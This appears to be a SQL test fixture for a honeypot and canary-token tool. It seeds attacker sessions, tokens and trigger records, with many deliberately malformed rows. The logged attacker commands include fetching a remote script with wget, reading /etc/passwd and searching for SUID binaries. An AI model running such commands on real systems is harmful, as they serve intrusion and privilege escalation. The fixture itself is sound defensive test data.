-- From the profiler, from the collector and from an older version, in one list,
-- with entries that cannot be used between them.
INSERT INTO attackers VALUES ('11111111-0000-4000-8000-000000000001', '203.0.113.7', NULL, '2026-05-01 00:00:00', '2026-05-04 06:00:00.250000',
 '[{"service":"ssh","decky":"decky-01","command":"uname -a","timestamp":"2026-05-04T05:49:05.586207+00:00"},
   {"id":"cmd_42","command_text":"find / -perm -4000","ts":"2026-05-04 05:49:06.5","decky":"decky-01","service":"ssh","uid":0,"user":"root","src":"203.0.113.7","pwd":"/root","session_id":"s-1"},
   {"text":"cat /etc/passwd","decky_id":"decky-02","decky":"not this one"},
   "id",
   {"service":"ssh","timestamp":"2026-05-04T05:49:07"},
   {"command":"","timestamp":"2026-05-04T05:49:08"},
   {"command_text":"","text":null,"command":"w","timestamp":"2026-05-04T07:49:09+02:00"},
   {"uuid":"u-1","command":"ls","ts":"garbage"},
   {"command_id":77,"command":"echo \udcff","timestamp":1777873750.25},
   42]', 'NL', 64500);
INSERT INTO attackers VALUES ('11111111-0000-4000-8000-000000000002', '198.51.100.9', '22222222-0000-4000-8000-000000000002', '2026-05-02 00:00:00', '2026-05-04 07:00:00',
 '[{"id":"cmd_43","command_text":"wget http://192.0.2.1/x.sh","decky":"decky-03"}]', NULL, NULL);
INSERT INTO attackers VALUES ('11111111-0000-4000-8000-000000000003', '198.51.100.10', NULL, '2026-05-02 00:00:00', '2026-05-04 07:00:00', '[{"command":"torn', NULL, NULL);
INSERT INTO attackers VALUES ('11111111-0000-4000-8000-000000000004', '198.51.100.11', NULL, '2026-05-02 00:00:00', '2026-05-04 07:00:00', '{"command":"not a list"}', NULL, NULL);
INSERT INTO attackers VALUES ('11111111-0000-4000-8000-000000000005', '198.51.100.12', NULL, '2026-05-02 00:00:00', '2026-05-04 07:00:00', '', NULL, NULL);
INSERT INTO attackers VALUES ('11111111-0000-4000-8000-000000000006', '198.51.100.13', NULL, '2026-05-02 00:00:00', '2026-05-04 07:00:00', NULL, NULL, NULL);
INSERT INTO attackers VALUES ('11111111-0000-4000-8000-000000000007', '198.51.100.14', NULL, '2026-05-02 00:00:00', 'unknown', '[{"command":"first seen counts"}]', NULL, NULL);
-- The same address as the first, seen later: triggers from it are resolved to this one.
INSERT INTO attackers VALUES ('11111111-0000-4000-8000-000000000008', '203.0.113.7', '22222222-0000-4000-8000-000000000008', '2026-05-03 00:00:00', '2026-05-05 00:00:00', '[]', 'DE', 64501);

INSERT INTO canary_tokens VALUES ('33333333-0000-4000-8000-000000000001', 'http', 'fingerprint_html', 'html', '/var/www/report.html', 'decky-01');
INSERT INTO canary_tokens VALUES ('33333333-0000-4000-8000-000000000002', 'dns', 'env_file', 'plain', NULL, NULL);

INSERT INTO canary_triggers VALUES ('44444444-0000-4000-8000-000000000001', '33333333-0000-4000-8000-000000000001', '2026-05-04 08:00:00.123456', '198.51.100.9',
 'Mozilla/5.0 (X11; Linux x86_64) HeadlessChrome/120.0.0.0', '/c/abc', NULL,
 '{"accept-language": "de-DE", "_fp": {"nav": {"ua": "Mozilla/5.0", "pl": "Linux x86_64", "lg": "de", "lgs": ["de", "en"], "hc": 4, "dm": 8, "tp": 0, "wd": true}, "scr": {"w": 800, "h": 600, "dpr": 1}, "tz": {"z": "Europe/Berlin", "off": -120}, "cv": {"h": "c1"}, "gl": {"v": "Google Inc.", "r": "ANGLE", "uv": null, "ur": null}, "au": {"err": "blocked"}, "ft": {"h": "f1", "n": 3, "d": []}, "rtc": {"ip": ["192.0.2.55"]}, "bt": null, "pf": null, "pm": null, "id": "deadbeef"}}',
 '11111111-0000-4000-8000-000000000002');
INSERT INTO canary_triggers VALUES ('44444444-0000-4000-8000-000000000002', '33333333-0000-4000-8000-000000000002', '2026-05-04 08:00:01', '203.0.113.7', NULL, NULL, 'x.canary.example', NULL, NULL);
INSERT INTO canary_triggers VALUES ('44444444-0000-4000-8000-000000000003', '33333333-0000-4000-8000-00000000ffff', '2026-05-04T10:00:02+02:00', '192.0.2.99', 'curl/8.5.0', '/c/def', NULL, '{"broken": ', NULL);
INSERT INTO canary_triggers VALUES ('44444444-0000-4000-8000-000000000004', '33333333-0000-4000-8000-000000000001', 'never', '192.0.2.99', 'curl/8.5.0', '/c/def', NULL, '{}', NULL);
INSERT INTO canary_triggers VALUES ('44444444-0000-4000-8000-000000000005', '33333333-0000-4000-8000-000000000001', '2026-05-04 08:00:03', NULL, NULL, NULL, NULL, '{}', NULL);
INSERT INTO canary_triggers VALUES ('44444444-0000-4000-8000-000000000006', '33333333-0000-4000-8000-000000000001', '2026-05-04 08:00:04', '192.0.2.99', '', '/', NULL, '["a list"]', 'attacker-that-is-gone');
